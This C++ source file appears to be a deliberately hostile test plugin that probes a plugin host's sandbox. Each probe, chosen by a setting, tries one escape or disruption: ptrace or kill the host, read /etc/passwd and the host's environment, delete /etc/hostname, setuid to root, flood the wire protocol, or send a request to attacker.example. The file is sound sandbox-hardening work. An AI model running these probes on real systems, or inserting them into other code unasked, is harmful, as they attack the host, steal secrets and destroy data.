// A plugin that attacks its host in one way at a time, by the setting "behaviour". It reads five pages with a
// checkpoint after each and strikes after the second, unless it was given a cursor: so a run that goes on
// from there comes to its end. An attempt that works is shown as a record with the key "escaped".
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <condition_variable>
#include <cstdlib>
#include <functional>
#include <huiliu/plugin.hpp>
#include <map>
#include <mutex>
#include <stdexcept>
#include <thread>

#include "hub/host/wire.hpp"

namespace {

using huiliu::host::wire::Header;
using huiliu::host::wire::Kind;
using huiliu::host::wire::Service;
using huiliu::host::wire::Writer;

constexpr int socket_fd = 3;

// The value of a member of the settings, which hold no escapes.
std::string member(std::string_view json, const std::string& name) {
  const std::size_t at = json.find("\"" + name + "\":\"");
  if (at == std::string_view::npos) return {};
  const std::size_t from = at + name.size() + 4;
  return std::string(json.substr(from, json.find('"', from) - from));
}

struct Scene {
  huiliu::Call& call;
  huiliu::RecordSink& out;
  const huiliu_record_sink* sink;
  int host_pid;
  // The child's number of this operation: the second frame it got for a fresh instance, load and open before.
  std::uint32_t id = 3;
  void escaped(bool it_worked) const {
    if (!it_worked) return;
    huiliu::Batch batch("items");
    batch.upsert("escaped", "{}");
    out.emit(batch);
  }
};

void raw_frame(std::uint32_t kind, std::uint32_t call, std::uint32_t request, const std::string& payload,
               std::uint64_t size) {
  Header header;
  header.kind = kind;
  header.call = call;
  header.request = request;
  header.size = size;
  static_cast<void>(!::write(socket_fd, &header, sizeof header));
  static_cast<void>(!::write(socket_fd, payload.data(), payload.size()));
}

void frame(Kind kind, std::uint32_t call, std::uint32_t request, const std::string& payload) {
  raw_frame(static_cast<std::uint32_t>(kind), call, request, payload, payload.size());
}

[[noreturn]] void wait_for_ever() {
  for (;;) ::pause(), ::usleep(100'000);
}

int overflow(int depth) {
  volatile char room[65536];
  room[static_cast<unsigned>(depth) % sizeof room] = 1;
  return depth < 0 ? 0 : overflow(depth + 1) + room[0];
}

void spin_through(const std::function<void()>& step) {
  for (volatile bool on = true; on;) step();
}

bool opens(const char* path, int flags) {
  const int fd = ::open(path, flags, 0600);
  if (fd >= 0) ::close(fd);
  return fd >= 0;
}

bool connects(int family) {
  const int fd = ::socket(family, SOCK_STREAM, 0);
  return fd >= 0;
}

using Strike = void (*)(Scene& scene);

const std::map<std::string, Strike>& strikes() {
  static const std::map<std::string, Strike> all = {
      // ---- crashes and exits
      {"segfault", [](Scene&) { *static_cast<volatile int*>(nullptr) = 1; }},
      {"abort", [](Scene&) { std::abort(); }},
      {"divide_by_zero", [](Scene&) { ::raise(SIGFPE); }},
      {"illegal_instruction", [](Scene&) { __builtin_trap(); }},
      {"stack_overflow", [](Scene&) { overflow(1); }},
      {"double_free",
       [](Scene&) {
         void* volatile memory = std::malloc(64);
         void* again = memory;
         std::free(memory);
         std::free(again);
         std::abort();  // an allocator that does not notice
       }},
      {"terminate", [](Scene&) { std::terminate(); }},
      {"thread_throws", [](Scene&) { std::thread([] { throw 42; }).join(); }},
      {"exit_zero", [](Scene&) { std::exit(0); }},
      {"exit_one", [](Scene&) { ::_exit(1); }},
      {"quick_exit", [](Scene&) { std::quick_exit(7); }},
      {"kills_itself", [](Scene&) { ::raise(SIGKILL); }},
      {"stops_itself",
       [](Scene&) {
         ::raise(SIGSTOP);
         wait_for_ever();
       }},
      // ---- hangs
      {"spin", [](Scene&) { spin_through([] {}); }},
      {"sleep", [](Scene&) { wait_for_ever(); }},
      {"deadlock",
       [](Scene&) {
         std::mutex mutex;
         std::condition_variable never;
         std::unique_lock lock(mutex);
         never.wait(lock, [] { return false; });
       }},
      {"ignores_signals",
       [](Scene&) {
         for (int number = 1; number < 32; ++number) ::signal(number, SIG_IGN);
         spin_through([] {});
       }},
      {"spins_on_the_clock", [](Scene& s) { spin_through([&] { s.call.now_us(); }); }},
      {"spins_on_random", [](Scene& s) { spin_through([&] { s.call.random_hex(); }); }},
      {"spins_on_sleep", [](Scene& s) { spin_through([&] { s.call.sleep(std::chrono::milliseconds(0)); }); }},
      {"burns_threads",
       [](Scene&) {
         for (int i = 0; i < 8; ++i) std::thread([] { spin_through([] {}); }).detach();
         spin_through([] {});
       }},
      // ---- floods and leaks
      {"log_flood", [](Scene& s) { spin_through([&] { s.call.info("flood"); }); }},
      {"progress_flood", [](Scene& s) { spin_through([&] { s.call.progress(1, 2); }); }},
      {"state_flood",
       [](Scene& s) { spin_through([&] { s.call.set_state("note", std::string(60'000, 'x')); }); }},
      {"memory_leak",
       [](Scene&) {
         for (;;) {
           char* more = static_cast<char*>(std::malloc(1 << 20));
           if (more == nullptr) std::abort();
           *more = 1;
         }
       }},
      {"descriptor_leak",
       [](Scene& s) {
         int made = 0;
         while (made < 100'000 && ::dup(socket_fd) >= 0) ++made;
         s.escaped(made > 1000);
       }},
      {"thread_leak",
       [](Scene&) {
         for (;;) std::thread([] { wait_for_ever(); }).detach();
       }},
      {"large_map",
       [](Scene& s) {
         void* at = ::mmap(nullptr, std::size_t{1} << 33, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
                           -1, 0);
         s.escaped(at != MAP_FAILED);
       }},
      // ---- processes
      {"fork",
       [](Scene& s) {
         const pid_t pid = ::fork();
         if (pid == 0) wait_for_ever();
         s.escaped(pid > 0);
       }},
      {"raw_clone",
       [](Scene& s) {
         const long pid = ::syscall(SYS_clone, SIGCHLD, nullptr, nullptr, nullptr, nullptr);
         if (pid == 0) wait_for_ever();
         s.escaped(pid > 0);
       }},
      {"exec",
       [](Scene& s) {
         char name[] = "/bin/true";
         char* argv[] = {name, nullptr};
         ::execv(name, argv);
         s.escaped(true);
       }},
      {"spawn",
       [](Scene& s) {
         char name[] = "/bin/true";
         char* argv[] = {name, nullptr};
         pid_t pid = 0;
         s.escaped(::posix_spawn(&pid, name, nullptr, nullptr, argv, nullptr) == 0);
       }},
      {"system", [](Scene& s) { s.escaped(std::system("true") == 0); }},
      {"ptrace_host",
       [](Scene& s) { s.escaped(::ptrace(PTRACE_ATTACH, s.host_pid, nullptr, nullptr) == 0); }},
      {"reads_host_memory",
       [](Scene& s) {
         char byte = 0;
         iovec local = {&byte, 1}, remote = {reinterpret_cast<void*>(&strikes), 1};
         s.escaped(::process_vm_readv(s.host_pid, &local, 1, &remote, 1, 0) == 1);
       }},
      {"kills_host", [](Scene& s) { s.escaped(::kill(s.host_pid, SIGTERM) == 0); }},
      {"kills_all", [](Scene& s) { s.escaped(::kill(-1, 0) == 0); }},
      {"kills_group", [](Scene& s) { s.escaped(::kill(0, 0) == 0); }},
      {"alarm",
       [](Scene&) {
         ::alarm(1);
         wait_for_ever();
       }},
      // ---- files
      {"reads_passwd", [](Scene& s) { s.escaped(opens("/etc/passwd", O_RDONLY)); }},
      {"reads_host_environment",
       [](Scene& s) {
         s.escaped(opens(("/proc/" + std::to_string(s.host_pid) + "/environ").c_str(), O_RDONLY));
       }},
      {"reads_own_proc", [](Scene& s) { s.escaped(opens("/proc/self/maps", O_RDONLY)); }},
      {"lists_root",
       [](Scene& s) { s.escaped(::syscall(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY) >= 0); }},
      {"writes_file", [](Scene& s) { s.escaped(opens("/tmp/huiliu-hostile", O_WRONLY | O_CREAT)); }},
      {"makes_directory", [](Scene& s) { s.escaped(::mkdir("/tmp/huiliu-hostile-dir", 0700) == 0); }},
      {"removes_file", [](Scene& s) { s.escaped(::unlink("/etc/hostname") == 0); }},
      {"links", [](Scene& s) { s.escaped(::symlink("/etc/passwd", "/tmp/huiliu-hostile-link") == 0); }},
      {"changes_mode", [](Scene& s) { s.escaped(::chmod("/tmp", 0777) == 0); }},
      {"memory_file", [](Scene& s) { s.escaped(::memfd_create("x", 0) >= 0); }},
      {"mounts", [](Scene& s) { s.escaped(::mount("none", "/mnt", "tmpfs", 0, nullptr) == 0); }},
      // ---- network
      {"internet_socket", [](Scene& s) { s.escaped(connects(AF_INET)); }},
      {"ipv6_socket", [](Scene& s) { s.escaped(connects(AF_INET6)); }},
      {"unix_socket", [](Scene& s) { s.escaped(connects(AF_UNIX)); }},
      {"netlink_socket", [](Scene& s) { s.escaped(connects(AF_NETLINK)); }},
      {"socket_pair",
       [](Scene& s) {
         int ends[2];
         s.escaped(::socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0);
       }},
      {"other_host",
       [](Scene& s) {
         bool sent = true;
         try {
           sent = s.call.send({.url = "https://attacker.example/?q=1"}).ok();
         } catch (const huiliu::Failure&) {
           sent = false;
         }
         s.escaped(sent);
       }},
      // ---- rights
      {"becomes_root", [](Scene& s) { s.escaped(::syscall(SYS_setuid, 0) == 0); }},
      {"raises_limits",
       [](Scene& s) {
         const rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
         s.escaped(::setrlimit(RLIMIT_DATA, &unlimited) == 0);
       }},
      {"limits_host",
       [](Scene& s) {
         const rlimit none = {0, 0};
         s.escaped(::prlimit(s.host_pid, RLIMIT_NOFILE, &none, nullptr) == 0);
       }},
      {"becomes_dumpable", [](Scene& s) { s.escaped(::prctl(PR_SET_DUMPABLE, 1, 0, 0, 0) == 0); }},
      {"new_namespace", [](Scene& s) { s.escaped(::unshare(CLONE_NEWUSER) == 0); }},
      {"bpf", [](Scene& s) { s.escaped(::syscall(SYS_bpf, 0, nullptr, 0) >= 0); }},
      {"io_uring",
       [](Scene& s) {
         io_uring_params parameters = {};
         s.escaped(::syscall(SYS_io_uring_setup, 1, &parameters) >= 0);
       }},
      {"user_fault", [](Scene& s) { s.escaped(::syscall(SYS_userfaultfd, 0) >= 0); }},
      {"pins_itself",
       [](Scene& s) {
         cpu_set_t one;
         CPU_ZERO(&one);
         CPU_SET(0, &one);
         s.escaped(::sched_setaffinity(0, sizeof one, &one) == 0);
       }},
      {"priority", [](Scene& s) { s.escaped(::setpriority(PRIO_PROCESS, 0, -5) == 0); }},
      // ---- the socket
      {"garbage",
       [](Scene&) {
         const std::string noise(4096, '\xfe');
         static_cast<void>(!::write(socket_fd, noise.data(), noise.size()));
         wait_for_ever();
       }},
      {"huge_frame",
       [](Scene& s) {
         raw_frame(18, s.id, 11, "", ~std::uint64_t{0} >> 1);
         wait_for_ever();
       }},
      {"large_lie",
       [](Scene& s) {
         raw_frame(18, s.id, 11, "short", 100 << 20);
         ::shutdown(socket_fd, SHUT_WR);
         wait_for_ever();
       }},
      {"unknown_kind",
       [](Scene& s) {
         raw_frame(99, s.id, 0, "", 0);
         wait_for_ever();
       }},
      {"unknown_note",
       [](Scene& s) {
         frame(Kind::note, s.id, 250, "");
         wait_for_ever();
       }},
      {"unknown_service",
       [](Scene& s) {
         frame(Kind::service, s.id, 9000, std::string(4, '\x7f'));
         wait_for_ever();
       }},
      {"other_call",
       [](Scene&) {
         frame(Kind::note, 4711, 12, "");
         wait_for_ever();
       }},
      {"forged_result",
       [](Scene&) {
         frame(Kind::result, 4711, 0, std::string(8, '\0'));
         wait_for_ever();
       }},
      {"half_payload",
       [](Scene& s) {
         Writer out;
         out.u32(1);
         out.u64(5);
         frame(Kind::note, s.id, static_cast<std::uint32_t>(Service::emit), out.bytes());
         wait_for_ever();
       }},
      {"result_in_a_read",
       [](Scene& s) {
         Writer out;
         out.u64(0);
         out.u32(0);
         frame(Kind::note, s.id, static_cast<std::uint32_t>(Service::report), out.bytes());
         wait_for_ever();
       }},
      {"many_keys_lie",
       [](Scene& s) {
         Writer out;
         out.u32(1);
         out.u32(40);
         out.u32(96);
         out.u64(1'000'000'000'000);
         out.u32(1);
         out.u64(0);
         out.text(std::string_view("items"));
         out.u64(1'000'000'000'000);
         frame(Kind::note, s.id, static_cast<std::uint32_t>(Service::emit), out.bytes());
         wait_for_ever();
       }},
      {"spends_no_credit",
       [](Scene& s) {
         Writer out;
         out.u64(1);
         out.u64(2);
         const std::string payload = out.bytes() + std::string();
         // More than the window at once, without waiting for what is given back.
         for (int i = 0; i < 1'000'000; ++i)
           frame(Kind::note, s.id, static_cast<std::uint32_t>(Service::progress), payload);
         wait_for_ever();
       }},
      {"closes_socket",
       [](Scene&) {
         ::close(socket_fd);
         wait_for_ever();
       }},
      {"closes_everything",
       [](Scene&) {
         for (int fd = 0; fd < 64; ++fd) ::close(fd);
         wait_for_ever();
       }},
      {"shuts_socket",
       [](Scene&) {
         ::shutdown(socket_fd, SHUT_RDWR);
         wait_for_ever();
       }},
      {"steals_frames",
       [](Scene& s) {
         std::thread([] {
           char stolen[64];
           for (;;) static_cast<void>(!::read(socket_fd, stolen, sizeof stolen));
         }).detach();
         spin_through([&] { s.call.now_us(); });
       }},
      // ---- lies within the ABI
      {"null_page",
       [](Scene& s) {
         if (s.sink->emit(s.sink->ctx, nullptr) != HUILIU_OK) throw huiliu::DataError("refused");
         s.out.checkpoint("x");
       }},
      {"tiny_batch",
       [](Scene& s) {
         huiliu_batch batch = {};
         batch.struct_size = 4;
         s.sink->emit(s.sink->ctx, &batch);
         s.out.checkpoint("x");
       }},
      {"endless_page",
       [](Scene& s) {
         const huiliu_batch batch = {sizeof batch, sizeof(huiliu_record), huiliu::to_str("items"),
                                     reinterpret_cast<const huiliu_record*>(&s), std::size_t{1} << 40};
         s.sink->emit(s.sink->ctx, &batch);
         s.out.checkpoint("x");
       }},
      {"short_stride",
       [](Scene& s) {
         const huiliu_record record = {};
         const huiliu_batch batch = {sizeof batch, 8, huiliu::to_str("items"), &record, 1};
         s.sink->emit(s.sink->ctx, &batch);
         s.out.checkpoint("x");
       }},
      {"other_stream",
       [](Scene& s) {
         huiliu::Batch batch("secrets");
         batch.upsert("1", "{}");
         s.out.emit(batch);
         s.out.checkpoint("x");
       }},
      {"lying_length",
       [](Scene& s) {
         huiliu_record record = {};
         record.key = huiliu::to_str("k");
         record.body = {reinterpret_cast<const std::uint8_t*>("{}"), std::size_t{40} << 20};
         record.kind = HUILIU_UPSERT;
         const huiliu_batch batch = {sizeof batch, sizeof record, huiliu::to_str("items"), &record, 1};
         s.sink->emit(s.sink->ctx, &batch);
       }},
      {"too_large_page",
       [](Scene& s) {
         huiliu::Batch batch("items");
         const std::string body = "{\"x\":\"" + std::string(15 << 20, 'x') + "\"}";
         for (int i = 0; i < 5; ++i) batch.upsert("large" + std::to_string(i), body);
         s.out.emit(batch);
         s.out.checkpoint("x");
       }},
      {"asks_the_remote", [](Scene& s) { s.call.send({.url = "https://good.example/"}); }},
      {"giant_cursor", [](Scene& s) { s.out.checkpoint(std::string(17 << 20, 'c')); }},
      {"many_headers",
       [](Scene& s) {
         huiliu::Headers headers(5000, {"X-Flood", "1"});
         s.call.send({.url = "https://good.example/", .headers = std::move(headers)});
       }},
      {"unknown_status", [](Scene&) { throw huiliu::Failure(4711, "no such status"); }},
      {"throws", [](Scene&) { throw std::logic_error("not caught"); }},
      {"speaks_after_the_end",
       [](Scene& s) {
         const huiliu_host* host = s.call.host();
         huiliu_call* raw = s.call.raw();
         std::thread([host, raw] {
           for (;;) host->calls->progress(raw, 1, 1);
         }).detach();
       }},
  };
  return all;
}

class Hostile {
 public:
  static constexpr std::string_view manifest =
      R"({"id":"test-hostile","version":"1.0.0","label":{"zh":"敌意","en":"Hostile"},)"
      R"("settings":{"type":"object","additionalProperties":false,"properties":{)"
      R"("behaviour":{"type":"string"},"at_open":{"type":"string"},"host_pid":{"type":"string"}}},)"
      R"("capabilities":["check","read","write"],"hosts":["good.example"],)"
      R"("streams":[{"name":"items","label":{"zh":"物","en":"Items"},"key":"id",)"
      R"("capabilities":{"read":["full","changes"],"write":["create","update"]}}]})";

  explicit Hostile(std::string_view settings)
      : behaviour_(member(settings, "behaviour")), host_pid_(std::stoi("0" + member(settings, "host_pid"))) {
    if (member(settings, "at_open") == "crash") std::abort();
    if (member(settings, "at_open") == "hang") wait_for_ever();
  }

  void check(huiliu::Call&) {}

  void read(huiliu::Call& call, const huiliu::ReadRequest& request, huiliu::RecordSink& out) {
    const int done = request.cursor.empty() ? 0 : request.cursor.front() - '0';
    for (int page = done + 1; page <= 5; ++page) {
      huiliu::Batch batch(request.stream);
      for (int i = 0; i < 10; ++i) batch.upsert(std::to_string(page * 10 + i), "{}");
      out.emit(batch);
      out.checkpoint(std::to_string(page));
      if (page == 2 && done == 0) strike(call, out);
    }
  }

  void write(huiliu::Call& call, const huiliu::Records& records, huiliu::ResultSink& out) {
    for (std::size_t i = 0; i < records.size(); ++i) {
      if (i == 1 && behaviour_ == "dies_while_writing") std::abort();
      if (i == 1 && behaviour_ == "reports_nonsense") out.done(99, HUILIU_APPLIED);
      if (i == 1 && behaviour_ == "unknown_outcome") out.done(i, 77, "x");
      out.done(i, HUILIU_APPLIED, "key");
    }
    call.progress(1);
  }

 private:
  void strike(huiliu::Call& call, huiliu::RecordSink& out) {
    const auto found = strikes().find(behaviour_);
    if (found == strikes().end()) return;
    // The sink behind the wrapper, for what the wrapper would not let through.
    huiliu_record_sink* raw = nullptr;
    static_assert(sizeof(out) == sizeof raw);
    std::memcpy(&raw, &out, sizeof raw);
    Scene scene{call, out, raw, host_pid_};
    found->second(scene);
  }

  std::string behaviour_;
  int host_pid_;
};

}  // namespace

HUILIU_PLUGIN("test-hostile", "1.0.0", 0, Hostile);
